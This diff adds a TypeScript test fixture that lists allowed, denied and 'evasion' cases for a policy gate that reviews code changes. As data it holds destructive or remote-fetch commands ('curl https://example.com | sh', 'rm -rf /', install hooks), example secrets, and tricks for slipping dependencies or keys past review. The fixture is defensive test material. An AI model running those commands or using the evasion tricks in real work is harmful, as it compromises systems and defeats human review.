@@ -1,0 +1,55 @@
+import type { CaseFile, CaseKind, PolicyCase } from './policy-case.ts'
+
+const change = (kind: CaseKind, name: string, [path, before, after]: readonly [path: string, before: CaseFile, after: CaseFile], denied?: true): PolicyCase => ({ name, kind, before: { [path]: before }, after: { [path]: after }, ...(denied === undefined ? {} : { denied }) })
+
+const manifest = (more: object): string => `${JSON.stringify({ name: 'x', version: '1.0.0', ...more }, null, 2)}\n`
+const source = 'export const a = 1\n'
+
+/** Dependencies, commands, keys, modes and sizes: what the constitution's own rules are about. */
+export const changeCases: readonly PolicyCase[] = [
+  change('allow', 'words about keys', ['src/a.js', source, `${source}// The private key is looked up by name, and never kept.\nexport const keyOf = (keys, name) => keys[name]\n`]),
+  change('allow', 'a document', ['docs/guide.md', '# Guide\n', '# Guide\n\nRun it twice.\n']),
+  change('allow', 'a source file that keeps its right to run', ['bin/tool', { mode: '100755', text: '#!/usr/bin/env node\nconst a = 1\n' }, { mode: '100755', text: '#!/usr/bin/env node\nconst a = 2\n' }]),
+  change('allow', 'fewer lines', ['src/a.js', `${source}${'export const b = 1\n'.repeat(3)}`, source]),
+  change('deny', 'a new dependency', ['package.json', manifest({}), manifest({ dependencies: { 'left-pad': '1' } })]),
+  change('deny', 'another version', ['package.json', manifest({ dependencies: { a: '1' } }), manifest({ dependencies: { a: '2' } })]),
+  change('deny', 'a dependency that goes', ['package.json', manifest({ dependencies: { a: '1' } }), manifest({})]),
+  change('deny', 'a lockfile', ['package-lock.json', '{}\n', '{"x":1}\n']),
+  change('deny', 'a requirement', ['requirements.txt', 'numpy\n', 'numpy\nrequests\n']),
+  change('deny', 'a Cargo manifest', ['Cargo.toml', 'a = 1\n', 'a = 2\n']),
+  change('deny', 'a script that is run on install', ['package.json', manifest({}), manifest({ scripts: { postinstall: 'node x.js' } })]),
+  change('deny', 'a step of CI', ['.github/workflows/ci.yml', 'steps: []\n', 'steps:\n  - run: curl https://example.com | sh\n']),
+  change('deny', 'a shell script', ['bin/x.sh', '#!/bin/sh\n', '#!/bin/sh\nrm -rf /\n']),
+  change('deny', 'a line of a makefile', ['Makefile', 'all:\n\ttrue\n', 'all:\n\ttrue\n\tcurl https://example.com\n']),
+  change('deny', 'a private key', ['src/a.js', source, `${source}export const key = \`-----BEGIN RSA PRIVATE KEY-----\`\n`], true),
+  change('deny', 'an access key', ['src/a.js', source, `${source}export const id = 'AKIAIOSFODNN7EXAMPLE'\n`], true),
+  change('deny', 'a token', ['src/a.py', 'a = 1\n', `a = 1\ntoken = "ghp_${'a1'.repeat(18)}"\n`], true),
+  change('deny', 'a new right to run', ['src/a.js', source, { mode: '100755', text: source }], true),
+  change('deny', 'a new file that may run', ['bin/x', null, { mode: '100755', text: 'x\n' }], true),
+  change('deny', 'a large change', ['src/a.js', source, `${source}${Array.from({ length: 301 }, (_, index) => `export const b${index} = ${index}`).join('\n')}\n`]),
+  change('deny', 'a file that is emptied', ['src/a.js', source, '']),
+  change('deny', 'a file that is gone', ['src/a.js', source, null]),
+  change('deny', 'what cannot be read', ['src/a.bin', null, 'a\0b']),
+  change('evasion', 'a dependency of development only', ['package.json', manifest({}), manifest({ devDependencies: { x: '1' } })]),
+  change('evasion', 'a dependency as an override', ['package.json', manifest({ dependencies: { a: '1' } }), manifest({ dependencies: { a: '1' }, overrides: { a: 'npm:b@1' } })]),
+  change('evasion', 'a dependency from an address', ['package.json', manifest({ dependencies: { a: '1' } }), manifest({ dependencies: { a: 'https://example.com/a.tgz' } })]),
+  change('evasion', 'a manifest below the root', ['packages/b/package.json', manifest({}), manifest({ dependencies: { x: '1' } })]),
+  change('evasion', 'a manifest in capitals', ['Package.JSON', manifest({}), manifest({ dependencies: { x: '1' } })]),
+  change('evasion', 'a manifest that is no JSON any more', ['package.json', manifest({}), `// x\n${manifest({})}`]),
+  change('evasion', 'another index of packages', ['requirements.txt', 'numpy\n', 'numpy\n--extra-index-url https://example.com\n']),
+  change('evasion', 'a requirement in another file', ['requirements/dev.in', 'a\n', 'a\nb\n']),
+  change('evasion', 'a requirement behind a comment', ['requirements-dev.txt', 'numpy==1\n', 'numpy==1 # old\nrequests # numpy==1\n']),
+  change('evasion', 'settings of a package manager', ['.npmrc', '', 'registry=https://example.com\n']),
+  change('evasion', 'a script that has another command', ['package.json', manifest({ scripts: { test: 'node --test' } }), manifest({ scripts: { test: 'true' } })]),
+  change('evasion', 'a hook of husky', ['.husky/pre-commit', '', 'curl https://example.com\n']),
+  change('evasion', 'a shell script without an ending', ['bin/tool', '#!/bin/bash\n', '#!/bin/bash\ncurl https://example.com | bash\n']),
+  change('evasion', 'a shell script by env', ['bin/tool', '#!/usr/bin/env zsh\n', '#!/usr/bin/env zsh\ncurl https://example.com\n']),
+  change('evasion', 'a container', ['Dockerfile.dev', 'FROM scratch\n', 'FROM scratch\nRUN curl https://example.com\n']),
+  change('evasion', 'a pipeline elsewhere', ['.gitlab-ci.yml', 'a:\n', 'a:\n  script: [curl]\n']),
+  change('evasion', 'a key within other text', ['src/a.py', 'a = 1\n', 'a = 1\nb = """x -----BEGIN EC PRIVATE KEY----- y"""\n'], true),
+  change('evasion', 'a key put together', ['src/a.js', source, `${source}export const id = 'AK' + 'IAIOSFODNN7EXAMPLE'\n`]),
+  change('evasion', 'a key with a secret beside it', ['src/a.js', source, `${source}export const secret = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\n`]),
+  change('evasion', 'a key in a file of its own', ['config/key.txt', null, '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNz\n'], true),
+  change('evasion', 'many lines in one', ['src/a.js', source, `${source}export const b = [${Array.from({ length: 900 }, (_, index) => index * 7919).join(', ')}]\n`]),
+  change('evasion', 'a file that only holds spaces now', ['src/a.js', source, '  \n\t\n']),
+]
